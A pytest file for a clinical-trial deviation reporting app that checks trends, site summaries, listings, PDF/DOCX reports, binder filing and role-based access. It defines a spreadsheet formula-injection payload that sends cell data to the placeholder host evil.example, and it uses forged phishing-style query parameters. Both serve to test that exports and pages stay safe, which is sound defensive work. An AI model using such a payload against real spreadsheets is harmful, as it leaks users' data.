"""Deviation reports on known data: trends, the site summary, guarded listings, the log and the monitoring
visit report as PDF/A and DOCX filed into the binder, the API's role refusals and the pages; on SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import asdict, replace
from datetime import UTC, date, datetime

import docx
import openpyxl
import pikepdf
import pytest

from tests.conftest import PASSWORD, RANDOMIZED, SITE_A, SITE_B, SUBJECT_A, SUBJECT_B, account_rules, signed_in
from trialcoord.accounts import signing
from trialcoord.deviations import (
    detection,
    deviation_review,
    filing,
    listings,
    manual,
    queue,
    report_documents,
    site_summary,
    trends,
)
from trialcoord.documents import documents
from trialcoord.documents.rules.documents import DocumentKey
from trialcoord.kernel import audit_log
from trialcoord.kernel.problems import InvalidInput, NotFound
from trialcoord.kernel.render.pdf_documents import render_pdf
from trialcoord.scheduling import participants, visits

pytestmark = pytest.mark.anyio
TODAY = date(2024, 6, 1)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


@pytest.fixture
async def reported(personas, server_clock, installation):
    """Site A: 1001 (V2 4 days late; screening and V3 missed) and 1002 (withdrawn; screening missed), found on
    2024-04-01, and a manual deviation recorded on 2024-05-20; site B: 2001 (V2, V3 on time; screening missed,
    closed 10 days after detection). A licence at site A expires within 60 days."""
    study = "TST-1"
    await participants.enroll_participant(study, "1002", SITE_A, arm="P", enrolled_on=RANDOMIZED, today=TODAY)
    for subject in (SUBJECT_A, SUBJECT_B, "1002"):
        await visits.record_event(study, subject, "randomization", RANDOMIZED, today=TODAY)
    await visits.record_event(study, "1002", "withdrawal", date(2024, 3, 10), today=TODAY)
    await visits.record_visit(study, SUBJECT_A, "V2", date(2024, 3, 25), reason="travelling", today=TODAY)
    await visits.record_visit(study, SUBJECT_B, "V2", date(2024, 3, 18), today=TODAY)
    await visits.record_visit(study, SUBJECT_B, "V3", date(2024, 4, 1), today=TODAY)
    server_clock.to(at("2024-04-01T12:00:00"))
    await detection.detect(study, TODAY, today=TODAY)
    server_clock.to(at("2024-05-20T09:00:00"))
    await manual.record_manual(
        study, SITE_A, "other", INJECTION, date(2024, 5, 19), "coord-a", subject_id=SUBJECT_A, today=TODAY
    )
    [at_b] = (await queue.listing(study, sites=[SITE_B]))[0]
    server_clock.to(at("2024-04-11T10:00:00"))
    await deviation_review.take_step(study, at_b.id, "respond", "coord-b", response="Screening was rescheduled")
    await deviation_review.take_step(study, at_b.id, "acknowledge", "monitor")
    await deviation_review.take_step(
        study,
        at_b.id,
        "classify",
        "monitor",
        classification="non_important",
        category="visit schedule",
        subcategory="VISIT MISSED",
        signing=await signing.signing_by_password("monitor", "review", PASSWORD, rules=account_rules()),
        installation=installation,
    )
    await deviation_review.take_step(
        study,
        at_b.id,
        "close",
        "monitor",
        signing=await signing.signing_by_password("monitor", "approval", PASSWORD, rules=account_rules()),
        installation=installation,
    )
    server_clock.stop()
    pdf = render_pdf(
        "binder_cover",
        {
            "study_code": study,
            "study_title": "T",
            "site_code": SITE_A,
            "site_name": "R",
            "investigator": "I",
            "sponsor": "S",
        },
        created_at="2024-01-01T00:00:00.000000Z",
        title="Licence",
        version_label="1",
    )
    licence = DocumentKey(study, SITE_A, "Licence Ivan")
    await documents.add_version(licence, "090", "2024", pdf, "licence.pdf", expires_on=date(2024, 7, 1))
    await documents.change_status(licence, "2024", "in_review", date(2024, 1, 2))
    await deviation_review_sign(licence, installation=installation)
    await documents.change_status(licence, "2024", "approved", date(2024, 1, 2))
    await documents.change_status(licence, "2024", "effective", date(2024, 1, 2))
    return study


async def deviation_review_sign(key, installation):
    from tests.conftest import sign_version

    await sign_version(key, "2024", "ivan", installation=installation)


async def test_trends_on_known_data(reported):
    trend = await trends.trends(reported, as_of=TODAY)
    assert trend.total == 6 and trend.excluded == 0 and not hasattr(trend, "as_of")  # as_of is ignored
    assert trend.by_site == [(SITE_A, 5), (SITE_B, 1)]
    assert dict(trend.by_rule) == {"visit_missed": 4, "visit_late": 1, "manual": 1}
    # screening windows closed in March, V2 was late in March, V3 (after a late V2) closed in April
    assert trend.months == ["2024-03", "2024-04", "2024-05"]
    assert trend.by_month_and_category == {"other": [0, 0, 1], "visit schedule": [4, 1, 0]}
    assert trend.days_to_closure == [10]
    assert {(r["site"], r["rule"], r["total"]) for r in trend.repeats} == {(SITE_A, "visit_missed", 3)}
    only_b = await trends.trends(reported, sites=[SITE_B], as_of=TODAY)
    assert only_b.by_site == [(SITE_B, 1)] and only_b.closure["median_days"] == 10


async def test_site_summary_figures_on_known_data(reported):
    summary = await site_summary.site_summary(reported, [SITE_A, SITE_B], TODAY)
    a, b = summary.sites
    assert (a.participants, a.active, a.ended) == (2, 1, 1)
    # A: V2 late is the one visit done; screening (twice) and V3 missed. B: V2, V3 on time, screening missed.
    assert (a.visits_done, a.visits_due, a.completion_rate, a.on_time_rate) == (1, 4, 0.25, 0.0)
    assert (b.visits_done, b.visits_due, b.on_time_rate) == (2, 3, 1.0)
    assert a.ages == {"0-30": 1, "31-60": 0, "61-90": 4, ">90": 0} and a.open_deviations == 5
    assert b.open_deviations == 0
    total = summary.total
    assert (total.participants, total.visits_done, total.visits_due) == (3, 3, 7)
    assert total.on_time_rate == round(2 / 3, 4)
    assert [asdict(d) for d in summary.documents] == [
        {"site": SITE_A, "document": "Licence Ivan", "version": "2024", "state": "expiring", "expires_on": "2024-07-01"}
    ]
    assert a.expiring == 1 and b.expiring == 0 and summary.reconsent == []


async def test_csv_listing_is_guarded_and_xlsx_reads_back(reported):
    data, count = await listings.listing_file(reported, None, "csv", "sponsor")
    assert data.startswith(b"\xef\xbb\xbf") and count == 6
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    manual = next(r for r in rows if r["RULE"] == "manual")
    assert manual["DVTERM"] == "'" + INJECTION  # inert: a spreadsheet shows it as text
    assert (manual["USUBJID"], manual["DVCAT"], manual["SITEID"], manual["DVSTDTC"]) == (
        f"TST-1-{SUBJECT_A}",
        "OTHER",
        SITE_A,
        "2024-05-19",
    )
    assert [r["DVSEQ"] for r in rows if r["USUBJID"] == f"TST-1-{SUBJECT_A}"] == ["1", "2", "3", "4"]
    book, _ = await listings.listing_file(reported, [SITE_B], "xlsx", "coord-b")
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == tuple(listings.LISTING_COLUMNS) and len(values) == 2
    row = dict(zip(values[0], values[1]))
    assert (row["SITEID"], row["STATE"], row["RULE"], row["DVDECOD"]) == (
        SITE_B,
        "closed",
        "visit_missed",
        "VISIT MISSED",
    )
    assert row["CLOSED_UTC"] == datetime(2024, 4, 11, 10, 0)  # a real date-time cell
    exports = await audit_log.browse(audit_log.AuditFilter(record_type="deviation_listing"), None, 5)
    assert [(e.actor, e.action, e.new["format"]) for e in exports] == [
        ("coord-b", "export", "xlsx"),
        ("sponsor", "export", "csv"),
    ]


def drawn_text(data: bytes) -> str:
    """The text of the pages and of the form XObjects on them (WeasyPrint draws an inline SVG into one),
    decoded through each font's ToUnicode map."""
    chunks: list[str] = []

    def walk(content, resources) -> None:
        maps = {}
        for name, font in (resources.get("/Font") or {}).items():
            cmap = font.ToUnicode.read_bytes().decode()
            pairs = re.findall(r"<([0-9a-f]+)>\s*<([0-9a-f]+)>", cmap.split("endcodespacerange")[1])
            maps[name] = {bytes.fromhex(code): bytes.fromhex(text).decode("utf-16-be") for code, text in pairs}
        glyphs: dict = {}
        for operands, operator in pikepdf.parse_content_stream(content):
            if str(operator) == "Tf":
                glyphs = maps.get(str(operands[0]), {})
            elif str(operator) == "TJ":
                raw = b"".join(bytes(item) for item in operands[0] if isinstance(item, pikepdf.String))
                chunks.append("".join(glyphs.get(raw[i : i + 2], "") for i in range(0, len(raw), 2)))
        for form in (resources.get("/XObject") or {}).values():
            if form.get("/Subtype") == "/Form":
                walk(form, form.get("/Resources") or resources)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        for page in pdf.pages:
            walk(page, page.Resources)
    return " ".join(" ".join(chunks).split())


async def test_the_log_pdf_draws_its_charts_and_the_docx_holds_them_and_the_rows(reported):
    pdf, name = await report_documents.render_report(
        reported, SITE_A, report_documents.LOG, "pdf", TODAY, "Cora (coord-a)"
    )
    assert pdf.startswith(b"%PDF-") and name == f"deviation_log-TST-1-{SITE_A}-2024-06-01.pdf"
    with pikepdf.open(io.BytesIO(pdf)) as document:
        data = document.attachments["data.json"].get_file().read_bytes().decode()
        meta = document.open_metadata()
        assert meta["pdfaid:part"] == "3"
    assert '"title":"Deviations by month and category"' in data and '"kind":"histogram"' in data
    text = drawn_text(pdf)
    compact = "".join(text.split())  # an SVG's text comes glyph by glyph
    assert "Deviationsbymonthandcategory" in compact and "Daysfromdetectiontoclosure" in compact
    assert "visit_missed" in compact and "2024-03" in compact  # the bars' labels
    assert INJECTION in compact  # the description as text (wrapped in its narrow column)
    log = (await report_documents.render_report(reported, SITE_A, report_documents.LOG, "docx", TODAY, "Cora"))[0]
    with zipfile.ZipFile(io.BytesIO(log)) as archive:  # the PDF's charts as pictures, each with its words
        xml = archive.read("word/document.xml").decode()
    assert xml.count("<w:drawing>") == 3 and 'title="Days from detection to closure"' in xml
    word = docx.Document(io.BytesIO(log))
    counts, table = word.tables[:2]
    assert ["Deviations", "5"] in [[c.text for c in row.cells] for row in counts.rows]
    cells = [[c.text for c in row.cells] for row in table.rows]
    assert cells[0][:3] == ["ID", "Participant", "Visit"] and len(cells) == 6
    assert {r[1] for r in cells[1:]} == {SUBJECT_A, "1002"} and any(r[4] == INJECTION for r in cells[1:])


async def test_the_monitoring_visit_report_lists_open_deviations_with_their_age(reported):
    data = await report_documents.report_data(reported, SITE_A, report_documents.VISIT_REPORT, TODAY, "Mo (monitor)")
    assert sorted(e["age_days"] for e in data["entries"]) == [12, 61, 61, 61, 61]
    assert {"label": "Visits done / due", "value": "1 / 4"} in data["summary"]
    word = docx.Document(
        io.BytesIO(
            (
                await report_documents.render_report(
                    reported, SITE_A, report_documents.VISIT_REPORT, "docx", TODAY, "Mo (monitor)"
                )
            )[0]
        )
    )
    assert "prepared by Mo (monitor)" in "\n".join(p.text for p in word.paragraphs)
    summary, entries, capas = word.tables[:3]
    assert ["Visit completion", "25.0%"] in [[c.text for c in row.cells] for row in summary.rows]
    assert len(entries.rows) == 6 and len(capas.rows) == 1  # headers, five open deviations, no CAPA


def on_the_day(server_clock) -> None:
    """Records made now are made on TODAY, the reports' day (a report leaves out what was found after it)."""
    server_clock.to(at("2024-06-01T08:00:00"))


async def test_filing_adds_a_binder_version_per_day_and_change(reported, server_clock):
    on_the_day(server_clock)
    first = await filing.file_report(reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora")
    assert (first.filed, first.label, first.version.artifact.unique_id, first.version.status) == (
        True,
        "2024-06-01",
        "110",
        "draft",
    )
    again = await filing.file_report(reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora")
    assert (again.filed, again.label, again.version.sha256) == (False, "2024-06-01", first.version.sha256)
    await manual.record_manual(reported, SITE_A, "other", "Lab kit expired", TODAY, "coord-a", today=TODAY)
    changed = await filing.file_report(reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora")
    assert (changed.filed, changed.label) == (True, "2024-06-01.2")
    report = await filing.file_report(reported, SITE_A, report_documents.VISIT_REPORT, "pdf", TODAY, "coord-a", "Cora")
    assert (report.label, report.version.artifact.unique_id, report.version.file_name) == (
        "2024-06-01",
        "107",
        f"monitoring_visit_report-TST-1-{SITE_A}-2024-06-01.pdf",
    )
    filed = {(r.name, r.label) for r in await documents.list_documents(reported, SITE_A)}
    assert {
        ("Protocol deviation log", "2024-06-01"),
        ("Protocol deviation log", "2024-06-01.2"),
        ("Monitoring visit report", "2024-06-01"),
    } <= filed
    stored = await documents.version_bytes(DocumentKey(reported, SITE_A, "Protocol deviation log"), "2024-06-01")
    assert stored.startswith(b"%PDF-")
    created = await audit_log.browse(audit_log.AuditFilter(record_type="document_version", action="create"), None, 9)
    assert sorted(e.record_id for e in created if "deviation log" in e.record_id) == [
        "TST-1/101/documents/Protocol deviation log/2024-06-01",
        "TST-1/101/documents/Protocol deviation log/2024-06-01.2",
    ]


async def test_api_reports_by_role(reported, anonymous):
    sponsor = await signed_in(anonymous, "sponsor")
    trends = (await sponsor.get("/api/studies/TST-1/deviations/trends")).json()
    assert trends["by_site"] == [[SITE_A, 5], [SITE_B, 1]]
    refused = await sponsor.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_A})
    assert refused.status_code == 403
    coord_b = await signed_in(anonymous, "coord-b")
    assert (await coord_b.get("/api/studies/TST-1/deviations/trends")).json()["by_site"] == [[SITE_B, 1]]
    listed = await coord_b.get("/api/studies/TST-1/deviations/listing.csv")
    assert listed.headers["content-type"].startswith("text/csv") and f",{SITE_A}," not in listed.text
    assert listed.text.count("\r\n") == 2
    assert (await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_A}")).status_code == 403
    assert (await coord_b.get(f"/api/studies/TST-1/site-summary?site={SITE_A}")).status_code == 403
    summary = (await coord_b.get("/api/studies/TST-1/site-summary")).json()
    assert [s["site"] for s in summary["sites"]] == [SITE_B]
    log = await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_B}&format=docx")
    assert log.status_code == 200 and log.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert (await coord_b.get(f"/api/studies/TST-1/deviations/log?site={SITE_B}&format=odt")).status_code == 400
    monitor = await signed_in(anonymous, "monitor")
    assert (
        await monitor.post("/api/studies/TST-1/deviations/monitoring-report/file", json={"site": SITE_B})
    ).status_code == 403  # monitors do not manage documents
    pdf = await monitor.get(f"/api/studies/TST-1/site-summary.pdf?site={SITE_B}")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
    coord_a = await signed_in(anonymous, "coord-a")
    filed = await coord_a.post("/api/studies/TST-1/deviations/monitoring-report/file", json={"site": SITE_A})
    assert filed.status_code == 201 and filed.json()["name"] == "Monitoring visit report"
    assert (await coord_a.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_B})).status_code == 403
    admin = await signed_in(anonymous, "admin")
    missing = await admin.get("/api/studies/TST-1/deviations/log?site=999")
    assert missing.status_code == 404 and "999" in missing.json()["detail"], missing.json()
    exports = await audit_log.browse(audit_log.AuditFilter(action="export"), None, 20)
    assert {(e.actor, e.record_type) for e in exports} >= {
        ("coord-b", "deviation_listing"),
        ("coord-b", "deviation_log"),
        ("monitor", "site_summary"),
    }


async def test_pages_show_charts_repeats_and_file_into_the_binder(reported, anonymous):
    coord_a = await signed_in(anonymous, "coord-a")
    trends = await coord_a.get("/studies/TST-1/deviations/trends")
    assert trends.status_code == 200 and trends.text.count("<svg") == 4
    assert 'id="repeats"' in trends.text and "visit missed" in trends.text
    page = await coord_a.get("/studies/TST-1/reports")
    assert page.status_code == 200 and 'id="file-form"' in page.text and 'id="site-summary"' in page.text
    assert f"deviations/log?site={SITE_A}&amp;format=pdf" in page.text and f"log?site={SITE_B}" not in page.text
    sent = await coord_a.post(
        "/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log", "format": "pdf"}
    )
    assert sent.status_code == 303
    shown = await coord_a.get(sent.headers["location"])
    notice = re.search(r'<p class="notice" role="status" id="filed">(.*?)</p>', shown.text).group(1)
    day = date.today().isoformat()  # the app's today: the report is dated the day it is filed
    assert notice == (
        'Filed into the binder: <a href="/studies/TST-1/documents/version?name=Protocol%20deviation'
        f'%20log&amp;label={day}&amp;site={SITE_A}">Protocol deviation log version {day}</a>.'
    )
    again = await coord_a.post(
        "/studies/TST-1/reports/file", data={"site": SITE_A, "report": "deviation_log", "format": "pdf"}
    )
    assert "Already in the binder, unchanged: " in (await coord_a.get(again.headers["location"])).text
    bad = await coord_a.post("/studies/TST-1/reports/file", data={"site": SITE_A, "report": "minutes"})
    assert bad.status_code == 422 and "Choose the deviation log" in bad.text
    sponsor = await signed_in(anonymous, "sponsor")
    seen = await sponsor.get("/studies/TST-1/reports")
    assert seen.status_code == 200 and 'id="file-form"' not in seen.text and "listing.xlsx" in seen.text


async def test_the_filed_notice_prints_nothing_from_the_address_but_a_real_version(reported, anonymous):
    await filing.file_report(reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora")
    monitor = await signed_in(anonymous, "monitor")
    forged = [
        {"site": SITE_A, "filed": "Your account is locked: call +1 555 0100"},
        {"site": SITE_A, "name": "Call +1 555 0100", "label": str(TODAY), "filed": "new"},
        {"site": SITE_A, "name": "Protocol deviation log", "label": "1999-01-01", "filed": "new"},
        {"site": SITE_A, "name": "Protocol deviation log", "label": str(TODAY), "filed": "<b>x</b>"},
        {"site": SITE_B, "name": "Protocol deviation log", "label": str(TODAY), "filed": "new"},
    ]  # A's
    for params in forged:
        page = await monitor.get("/studies/TST-1/reports", params=params)
        assert page.status_code == 200 and 'id="filed"' not in page.text, params
        assert "555 0100" not in page.text and "<b>x</b>" not in page.text
    real = {"site": SITE_A, "name": "Protocol deviation log", "label": str(TODAY), "filed": "new"}
    # a filed report is a draft: a monitor does not learn of it (test_document_readers.py), its site's staff do
    assert 'id="filed"' not in (await monitor.get("/studies/TST-1/reports", params=real)).text
    coord = await signed_in(anonymous, "coord-a")
    shown = await coord.get("/studies/TST-1/reports", params=real)
    assert f"Protocol deviation log version {TODAY}</a>" in shown.text


async def test_the_study_page_and_the_queue_link_to_the_reports(reported, anonymous):
    coord_a = await signed_in(anonymous, "coord-a")
    study_page = (await coord_a.get("/studies/TST-1")).text
    queue = (await coord_a.get("/studies/TST-1/deviations")).text
    assert 'href="/studies/TST-1/reports"' in study_page
    assert 'href="/studies/TST-1/deviations/trends"' in queue and 'href="/studies/TST-1/reports"' in queue


# Regressions of the review ------------------------------------------------------------------------------


async def test_filing_compares_the_data_with_every_version_of_the_day_and_files_pdf_only(reported, server_clock):
    on_the_day(server_clock)
    first = await filing.file_report(reported, SITE_A, report_documents.VISIT_REPORT, "pdf", TODAY, "coord-a", "Cora")
    assert "report key pdf:" in first.version.change_summary
    by_other = await filing.file_report(reported, SITE_A, report_documents.VISIT_REPORT, "pdf", TODAY, "monitor", "Mo")
    assert (by_other.filed, by_other.label) == (False, first.label)  # who prepared it is no new fact
    with pytest.raises(InvalidInput) as refused:
        await filing.file_report(reported, SITE_A, report_documents.VISIT_REPORT, "docx", TODAY, "coord-a", "Cora")
    assert refused.value.problems[0].field == "format"
    key = DocumentKey(reported, SITE_A, "Monitoring visit report")
    other, _ = await report_documents.render_report(reported, SITE_B, report_documents.LOG, "pdf", TODAY, "x")
    await documents.add_version(key, "107", "2024-06-01.2", other, "other.pdf")  # a newer version, other data
    await documents.add_version(key, "107", "2024-06-01.\u00b2", other, "odd.pdf")  # not a day label: ignored
    again = await filing.file_report(reported, SITE_A, report_documents.VISIT_REPORT, "pdf", TODAY, "coord-a", "Cora")
    assert (again.filed, again.label) == (False, "2024-06-01")
    await manual.record_manual(reported, SITE_A, "other", "Lab kit expired", TODAY, "coord-a", today=TODAY)
    changed = await filing.file_report(reported, SITE_A, report_documents.VISIT_REPORT, "pdf", TODAY, "coord-a", "Cora")
    assert (changed.filed, changed.label) == (True, "2024-06-01.3")


def test_day_labels_are_ascii_digits_only():
    assert filing._of_day("2024-06-01", TODAY) and filing._of_day("2024-06-01.12", TODAY)
    for label in ("2024-06-01.\u00b2", "2024-06-01.\u0661", "2024-06-01.0", "2024-06-01.", "2024-06-02", "x"):
        assert not filing._of_day(label, TODAY)
    assert filing._ordinal("2024-06-01.12") == 12 and filing._ordinal("2024-06-01") == 1
    assert filing._ordinal("2024-06-01.\u00b2") == 1


async def test_a_superscript_label_is_no_500(reported, anonymous, app):
    today = app.state.settings.today()
    pdf, _ = await report_documents.render_report(reported, SITE_A, report_documents.LOG, "pdf", today, "x")
    await documents.add_version(
        DocumentKey(reported, SITE_A, "Protocol deviation log"), "110", f"{today}.\u00b2", pdf, "x.pdf"
    )
    coord_a = await signed_in(anonymous, "coord-a")
    filed = await coord_a.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_A})
    assert filed.status_code == 201 and filed.json()["label"] == str(today)  # "today.²" is no version of the day


async def test_concurrent_filings_of_the_same_report_file_it_once(reported):
    import asyncio

    results = await asyncio.gather(
        *[filing.file_report(reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora") for _ in range(2)]
    )
    assert sorted(r.filed for r in results) == [False, True] and {r.label for r in results} == {"2024-06-01"}


class FakeJobs:
    """RenderJobs' interface, rendering at submit: counts renders, never starts a process."""

    def __init__(self, long_pages: int = 20):
        self.submitted: list[tuple] = []
        self.long_pages = long_pages  # as RenderJobs: from this estimate on, a render is a job

    def submit(self, kind, template, data, *, created_at, title, version_label, owner):
        from trialcoord.kernel.render import pdf_documents as rendering

        self.submitted.append((kind, template, version_label, owner))
        self.result_bytes = rendering.render_pdf(
            template, data, created_at=created_at, title=title, version_label=version_label
        )
        return f"job-{len(self.submitted)}"

    def result(self, job_id, *, owner):
        return self.result_bytes


async def test_long_reports_go_to_a_render_job_and_are_filed_once_it_is_done(reported, monkeypatch):
    renders = []
    real = filing.render
    monkeypatch.setattr(filing, "render", lambda *a: renders.append(a) or real(*a))
    jobs = FakeJobs()
    short, _ = await report_documents.download_report(
        reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs
    )
    assert short.startswith(b"%PDF-") and not jobs.submitted  # a short one stays in the request
    jobs.long_pages = 1
    queued, name = await report_documents.download_report(
        reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs
    )
    assert isinstance(queued, report_documents.Queued) and queued.url == "/api/studies/TST-1/render-jobs/job-1"
    renders.clear()
    queued_filing = await filing.file_report(
        reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs
    )
    assert (queued_filing.queued.job_id, queued_filing.label, queued_filing.version) == ("job-2", "2024-06-01", None)
    await filing.pending_filings()
    assert renders == [] and len(jobs.submitted) == 2  # rendered once, by the job
    stored = await documents.version_bytes(DocumentKey(reported, SITE_A, "Protocol deviation log"), "2024-06-01")
    assert stored == jobs.result_bytes
    again = await filing.file_report(reported, SITE_A, report_documents.LOG, "pdf", TODAY, "coord-a", "Cora", jobs=jobs)
    assert again.filed is False and len(jobs.submitted) == 2


async def test_the_summary_applies_as_of_to_deviations_visits_and_participants(reported):
    before = await site_summary.site_summary(reported, [SITE_A, SITE_B], date(2024, 3, 5))
    a, b = before.sites
    assert a.open_deviations == 0 and sum(a.ages.values()) == 0  # detected on 2024-04-01
    assert (a.visits_done, b.visits_done) == (0, 0)  # done later in March
    assert (a.participants, a.ended) == (2, 0)  # 1002 withdrew on 2024-03-10
    on_withdrawal = (await site_summary.site_summary(reported, [SITE_A], date(2024, 3, 10))).sites[0]
    assert (on_withdrawal.active, on_withdrawal.ended) == (1, 1)
    before_enrolment = await site_summary.site_summary(reported, [SITE_A], date(2000, 1, 1))
    assert before_enrolment.sites[0].participants == 0
    report = await report_documents.report_data(reported, SITE_A, report_documents.VISIT_REPORT, date(2024, 3, 5), "x")
    assert report["entries"] == []
    closed_b = await site_summary.site_summary(reported, [SITE_B], date(2024, 4, 5))
    assert closed_b.sites[0].open_deviations == 1  # closed on 2024-04-11: open then


async def test_the_summary_counts_study_level_documents_and_hides_subject_logs(reported, anonymous, installation):
    from tests.conftest import add_user, sign_version

    pdf = render_pdf(
        "binder_cover",
        {
            "study_code": "TST-1",
            "study_title": "T",
            "site_code": "x",
            "site_name": "R",
            "investigator": "I",
            "sponsor": "S",
        },
        created_at="2024-01-02T00:00:00.000000Z",
        title="Doc",
        version_label="1",
    )
    await add_user("ada-adm", ("administrator", None, None))
    for key, artifact, signer in (
        (DocumentKey("TST-1", None, "Central lab certification"), "160", "ada-adm"),
        (DocumentKey("TST-1", SITE_A, "Subject identification log"), "234", "ivan"),
    ):
        await documents.add_version(key, artifact, "1", pdf, "d.pdf", expires_on=date(2024, 6, 20))
        await documents.change_status(key, "1", "in_review", date(2024, 1, 2))
        await sign_version(key, "1", signer, installation=installation)
        await documents.change_status(key, "1", "approved", date(2024, 1, 2))
        await documents.change_status(key, "1", "effective", date(2024, 1, 2))
    summary = await site_summary.site_summary(reported, [SITE_A, SITE_B], TODAY)
    assert {d.document for d in summary.documents} == {
        "Licence Ivan",
        "Central lab certification",
        "Subject identification log",
    }
    assert summary.total.expiring == 3 and summary.sites[0].expiring == 2
    hidden = await site_summary.site_summary(reported, [SITE_A, SITE_B], TODAY, personal=False)
    assert "Subject identification log" not in {d.document for d in hidden.documents}
    assert hidden.total.expiring == 2
    for user_id, sees in (("sponsor", False), ("monitor", True)):  # only the monitor's grant carries personal data
        client = await signed_in(anonymous, user_id)
        shown = (await client.get("/api/studies/TST-1/site-summary?as_of=2024-06-01")).json()
        assert ("Subject identification log" in {d["document"] for d in shown["documents"]}) is sees, user_id


async def test_trends_of_an_unknown_site_is_not_found(reported):
    with pytest.raises(NotFound):
        await trends.trends(reported, ["999"])


async def test_the_listing_has_sdtm_columns_and_standing_records_only(reported):
    data, count = await listings.listing_file(reported, None, "csv", "sponsor")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {r["DOMAIN"] for r in rows} == {"DV"} and {r["EPOCH"] for r in rows} == {""}
    by_hand = next(r for r in rows if r["RULE"] == "manual")
    assert by_hand["DVSTDY"] == str((date(2024, 5, 19) - RANDOMIZED).days + 1)  # day one is day 1
    site_level = await manual.record_manual(reported, SITE_B, "other", "Freezer log gap", TODAY, "coord-b", today=TODAY)
    rows, _ = await queue.listing(reported)
    table = listings.listing_rows(reported, [*rows, replace(rows[0], id=999, state="resolved_by_data_correction")])
    assert 999 not in {r["DVSPID"] for r in table}
    mine = next(r for r in table if r["DVSPID"] == site_level.id)
    assert (mine["USUBJID"], mine["DVSEQ"], mine["DVSTDY"]) == (None, None, None)


async def test_the_api_answers_202_with_the_job_for_a_long_log(reported, anonymous, app):
    app.state.render_jobs = FakeJobs(long_pages=1)
    coord_a = await signed_in(anonymous, "coord-a")
    got = await coord_a.get(f"/api/studies/TST-1/deviations/log?site={SITE_A}")
    assert got.status_code == 202 and got.json()["url"] == "/api/studies/TST-1/render-jobs/job-1"
    assert got.headers["location"] == got.json()["url"] and got.json()["result_url"].endswith("/job-1/result")
    filed = await coord_a.post("/api/studies/TST-1/deviations/log/file", json={"site": SITE_A})
    assert filed.status_code == 202 and filed.json()["job_id"] == "job-2"
    await filing.pending_filings()
    assert any(d.name == "Protocol deviation log" for d in await documents.list_documents(reported, SITE_A))


async def test_an_exporter_can_follow_their_own_render_jobs(reported, anonymous):
    """A long report download answers with a job: whoever may export may poll their own jobs."""
    monitor = await signed_in(anonymous, "monitor")
    assert (await monitor.get("/api/studies/TST-1/render-jobs/")).json() == []
    assert (await monitor.get("/api/studies/TST-1/render-jobs/no-such-job")).status_code == 404
    assert (await monitor.post("/api/studies/TST-1/render-jobs/", json={})).status_code == 403  # submitting: no


async def test_the_monitoring_visit_report_names_only_its_sites_deviations_of_a_capa(reported):
    rows, _ = await queue.listing(reported)
    both = [next(r.id for r in rows if r.site == SITE_A), next(r.id for r in rows if r.site == SITE_B)]
    await deviation_review.create_capa(reported, "Reminders", "No process", "Call", "SOP", "cora", None, both, "cora")
    data = await report_documents.report_data(reported, SITE_A, report_documents.VISIT_REPORT, TODAY, "Mona")
    assert [c["deviations"] for c in data["capas"]] == [str(both[0])]
